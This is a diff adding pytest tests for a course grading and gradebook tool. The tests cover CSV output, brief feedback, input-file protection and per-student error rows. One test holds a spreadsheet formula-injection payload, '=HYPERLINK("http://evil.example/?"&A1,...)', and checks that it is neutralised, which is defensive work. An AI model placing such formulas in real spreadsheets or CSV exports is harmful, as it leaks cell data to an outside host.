@@ -5,9 +5,11 @@ from __future__ import annotations
 import csv
 import io
 import os
+import re
 import subprocess
 import sys
 import textwrap
+from dataclasses import replace
 from pathlib import Path
 
 import pytest
@@ -148,7 +150,8 @@ def test_the_grades_file_reads_back(tmp_path: Path) -> None:
     rows = [grading.Grade("cs1", 5, True, None, "∂L/∂W = 1"), grading.Grade("cs, 2", 6, False, "sign", 'two\nlines "quoted"')]
     path = tmp_path / "grades.csv"
     write_grades(path, rows)
-    table = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))
+    assert path.read_bytes().startswith(b"\xef\xbb\xbfstudent,")  # a byte-order mark: Excel reads it as UTF-8
+    table = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))
     assert table == [list(grading.COLUMNS), ["cs1", "5", "1", "", "∂L/∂W = 1"], ["cs, 2", "6", "0", "sign", 'two\nlines "quoted"']]
 
 
@@ -157,9 +160,9 @@ def test_grade_on_the_command_line(tmp_path: Path) -> None:
     answers = write(tmp_path, f'student,answer\ncs1,"{ex.solution_value().tolist()}"\ncs2,e(l) - yhat\ncs3,"W_{{2,"\n')
     result = run("grade", str(answers), "--exercise", "4.5-output", "-o", str(tmp_path / "grades.csv"))
     assert result.returncode == 0, result.stderr
-    assert "4.5-output: 3 answers: 1 correct (33.3%), 2 not yet" in result.stdout
-    assert "3 seeds derived from the student ids" in result.stdout and "written to" in result.stdout
-    table = list(csv.DictReader(open(tmp_path / "grades.csv", encoding="utf-8", newline="")))
+    assert "4.5-output: 3 answers: 1 correct (33.3%), 2 not yet" in result.stderr and result.stdout == ""
+    assert "3 seeds derived from the student ids" in result.stderr and "written to" in result.stderr
+    table = list(csv.DictReader(open(tmp_path / "grades.csv", encoding="utf-8-sig", newline="")))
     assert [(r["student"], r["correct"], r["mistake"]) for r in table] == [
         ("cs1", "1", ""),
         ("cs2", "0", "sign"),
@@ -226,3 +229,161 @@ def test_a_failing_test_shows_the_students_line_and_the_slip_not_the_library(tmp
     assert "# the student's line" in out and "# the student's formula" in out
     assert "slip [missing_paths]" in out and "not yet [sign]" in out
     assert "feedback = self.check(answer)" not in out and "got = gradient(root, wrt)" not in out
+
+
+# ---------------------------------------------------------------------- the gradebook
+CLASS = (
+    "name,student,email,4.5-output,Section,4.7-weight,4.6-hidden\n"
+    'Asha,cs1,asha@example.org,e(l) - yhat,A,"dL/da_{2,2} * h_{1,3}",W_3^T @ grad_a_3\n'
+    'Ravi,cs2,ravi@example.org,yhat - e(l),B,"-dL/da_{2,2} * h_{1,3}",\n'
+    'Mira,cs3,,yhat - e(l),A,"dL/da_{2,2} * h_{1,3",W_3 @ grad_a_3\n'
+)
+
+
+def test_a_gradebook_keeps_the_columns_and_gives_a_score_and_one_line_per_exercise(tmp_path: Path) -> None:
+    book = grading.gradebook(write(tmp_path, CLASS, "class.csv"))
+    assert book.columns == (
+        "name",
+        "student",
+        "email",
+        "Section",
+        *("4.5-output", "4.5-output feedback", "4.7-weight", "4.7-weight feedback", "4.6-hidden", "4.6-hidden feedback"),
+        "total",
+    )
+    assert isinstance(book, list) and all(isinstance(r, dict) and list(r) == list(book.columns) for r in book)
+    asha, ravi, mira = book
+    assert (asha["name"], asha["email"], asha["Section"], mira["email"]) == ("Asha", "asha@example.org", "A", "")
+    assert [(r["4.5-output"], r["4.7-weight"], r["4.6-hidden"], r["total"]) for r in book] == [(0, 1, 1, 2), (1, 0, 0, 1), (1, 0, 0, 1)]
+    assert str(asha["4.5-output feedback"]).startswith("not yet [sign]: ")
+    assert str(ravi["4.7-weight feedback"]).startswith("not yet [sign]") and ravi["4.6-hidden feedback"] == "no answer"
+    assert str(mira["4.7-weight feedback"]).startswith("unreadable: ") and str(asha["4.7-weight feedback"]).startswith("correct: ")
+    assert all("\n" not in str(v) for r in book for v in r.values())  # one line each
+    # each student on their own numbers: the same as grading that exercise alone
+    alone = grade(exercises.get("4.7-weight"), [Answer("cs2", "-dL/da_{2,2} * h_{1,3}", None, 2)])[0]
+    assert book.grades["4.7-weight"][1] == alone
+    text = book.summary()
+    assert text.splitlines()[0] == "3 students, 3 exercises"
+    assert "  4.5-output: 2/3 correct (66.7%); sign 1" in text and "  4.6-hidden: 1/3 correct (33.3%)" in text
+
+
+def test_a_gradebook_with_no_exercise_column_names_the_columns_and_the_exercises(tmp_path: Path) -> None:
+    with pytest.raises(AnswersFileError, match=r"no column is headed by an exercise's name \(the columns: 'student', 'hw1'"):
+        grading.gradebook(write(tmp_path, "student,hw1\ncs1,3\n", "class.csv"))
+    with pytest.raises(ValueError, match="feedback must be 'full' or 'brief'"):
+        grading.gradebook(write(tmp_path, CLASS, "class.csv"), feedback="short")  # type: ignore[arg-type]
+
+
+def test_the_gradebook_on_the_command_line_with_a_teachers_file(tmp_path: Path) -> None:
+    toml = write(
+        tmp_path,
+        """
+        [[exercise]]
+        name = "hw3-toy"
+        expression = "z = log(y1/y2); y1 = x**2; y2 = x**3"
+        target = "dz/dx"
+        at = { x = 2.0 }
+        """,
+        "hw3.toml",
+    )
+    answers = write(tmp_path, "student,hw3-toy,4.6-hidden,section\ncs1,-1/x,W_3^T @ grad_a_3,A\ncs2,1/x,,B\n", "class.csv")
+    out = tmp_path / "gradebook.csv"
+    result = run("grade", str(answers), "--file", str(toml), "-o", str(out))
+    assert result.returncode == 0, result.stderr
+    assert result.stdout == "" and "2 students, 2 exercises" in result.stderr and "hw3-toy: 1/2 correct (50.0%); sign 1" in result.stderr
+    raw = out.read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbfstudent,section,hw3-toy,hw3-toy feedback,4.6-hidden,4.6-hidden feedback,total\r\n")
+    table = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
+    assert [(r["student"], r["section"], r["hw3-toy"], r["4.6-hidden"], r["total"]) for r in table] == [
+        ("cs1", "A", "1", "1", "2"),
+        ("cs2", "B", "0", "0", "0"),
+    ]
+    printed = run("grade", str(answers), "--file", str(toml), "--feedback", "brief")
+    assert printed.returncode == 0 and printed.stdout.startswith("student,section,hw3-toy,")
+    assert "not yet [sign]: a wrong sign" in printed.stdout
+
+
+@pytest.mark.parametrize("target", ["answers", "toml", "link to answers", "link to toml", "hard link", "dotted"])
+def test_the_output_never_names_an_input(tmp_path: Path, target: str) -> None:
+    toml = write(tmp_path, '[[exercise]]\nname = "t"\nexpression = "z = x**2"\ntarget = "dz/dx"\nat = { x = 2.0 }\n', "t.toml")
+    answers = write(tmp_path, "student,answer\ncs1,2*x\n")
+    before = {p: p.read_bytes() for p in (toml, answers)}
+    if target.startswith("link"):
+        out = tmp_path / "link.csv"
+        try:
+            out.symlink_to(answers if target.endswith("answers") else toml)
+        except OSError:
+            pytest.skip("no symlinks here")
+    elif target == "hard link":
+        out = tmp_path / "hard.csv"
+        try:
+            os.link(answers, out)
+        except OSError:
+            pytest.skip("no hard links here")
+    else:
+        out = {"answers": answers, "toml": toml, "dotted": tmp_path / "." / answers.name}[target]
+    result = run("grade", str(answers), "--exercise", "t", "--file", str(toml), "-o", str(out))
+    assert result.returncode == 2 and result.stderr.count("\n") == 1, result.stderr
+    assert "the grades would replace it" in result.stderr
+    assert "exercises file" in result.stderr if target in ("toml", "link to toml") else "answers file" in result.stderr
+    assert {p: p.read_bytes() for p in (toml, answers)} == before
+
+
+def test_cells_a_spreadsheet_would_run_are_written_as_text(tmp_path: Path) -> None:
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    assert grading.safe_cell(evil) == "'" + evil
+    for cell in ("+1+2", "-2+3", "@SUM(A1)", "\tx", "\rx", "=1"):
+        assert grading.safe_cell(cell) == "'" + cell
+    for cell in ("-0.5", "+3", "1e-3", "-2.5E+4", "cs1", "", "a=b"):
+        assert grading.safe_cell(cell) == cell
+    assert (grading.safe_cell(-1), grading.safe_cell(True), grading.safe_cell(-0.25)) == ("-1", "1", "-0.25")
+    text = f'student,note,4.6-hidden\n"{evil.replace(chr(34), chr(34) * 2)}",-see me,W_3^T @ grad_a_3\ncs2,@home,-0.5\n'
+    out = tmp_path / "book.csv"
+    grading.write_gradebook(out, grading.gradebook(write(tmp_path, text, "class.csv")))
+    table = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"), newline="")))
+    cells = [c for row in table for c in row]
+    assert table[1][:2] == ["'" + evil, "'-see me"] and table[2][:2] == ["cs2", "'@home"]
+    assert not any(c[:1] in ("=", "+", "-", "@", "\t", "\r") and not grading._NUMBER.fullmatch(c) for c in cells)
+    grades = grade(exercises.get("4.6-hidden"), [Answer(evil, "W_3^T @ grad_a_3", None, 2)])
+    assert grading.grades_csv(grades).splitlines()[1].startswith("\"'=HYPERLINK(")
+
+
+def test_brief_feedback_names_the_slip_and_gives_no_number_of_the_solution() -> None:
+    ex = exercises.get("4.7-weight")
+    cases = ["-dL/da_{2,2} * h_{1,3}", "dL/da_{2,3} * h_{1,2}", "dL/da_{2,2} * h_{2,3}", "0.123", "dL/da_{2,2}", "dL/da_{2,2} * h_{1,3"]
+    answers = [Answer(f"s{i}", a, 7, i) for i, a in enumerate(cases)]
+    full, short = grade(ex, answers), grade(ex, answers, feedback="brief")
+    value = f"{float(ex.new(7).solution_value()):.6g}"
+    assert any(value.lstrip("-") in g.message for g in full)  # the full message gives the answer away
+    for f, b in zip(full, short):
+        assert (b.correct, b.mistake) == (f.correct, f.mistake)
+        assert value.lstrip("-") not in b.message and "\n" not in b.message
+        assert not re.search(r"\d\.\d\d", b.message.split(":", 1)[-1] if b.mistake != "unreadable" else ""), b.message
+    assert short[0].message == "not yet [sign]: " + exercises.MISTAKES["sign"]
+    assert short[5].message.startswith("unreadable: ")
+    assert grading.brief(grading.Grade("s", 1, True, None, "x = 3.5")) == "correct"
+    assert grading.brief(grading.Grade("s", 1, False, "no_bias", "b_2 = 0.31 is missing")) == "not yet [no_bias]"
+
+
+def test_brief_on_the_command_line(tmp_path: Path) -> None:
+    answers = write(tmp_path, 'student,answer,seed\ncs1,"-dL/da_{2,2} * h_{1,3}",7\n')
+    result = run("grade", str(answers), "--exercise", "4.7-weight", "--feedback", "brief")
+    assert result.returncode == 0, result.stderr
+    row = list(csv.reader(io.StringIO(result.stdout)))[1]
+    assert row == ["cs1", "7", "0", "sign", f"not yet [sign]: {exercises.MISTAKES['sign']}"]
+
+
+def test_a_student_whose_numbers_cannot_be_built_is_a_row_not_the_end_of_the_class() -> None:
+    base = exercises.get("4.6-hidden")
+    world = base.world
+    assert world is not None
+
+    def fragile(seed: int, k: int) -> object:
+        if seed == 13:
+            raise ValueError("log(x - 2.0): no finite numbers in 20 draws")
+        return world(seed, k)
+
+    ex = replace(base, world=fragile)
+    rows = grade(ex, [Answer("cs1", "W_3^T @ grad_a_3", 12, 2), Answer("cs2", "W_3^T @ grad_a_3", 13, 3), Answer("cs3", "1", 14, 4)])
+    assert [(r.correct, r.mistake) for r in rows] == [(True, None), (False, "no_numbers"), (False, rows[2].mistake)]
+    assert rows[1].message == "no numbers for seed 13: log(x - 2.0): no finite numbers in 20 draws"
+    assert "no_numbers" in summary(rows)
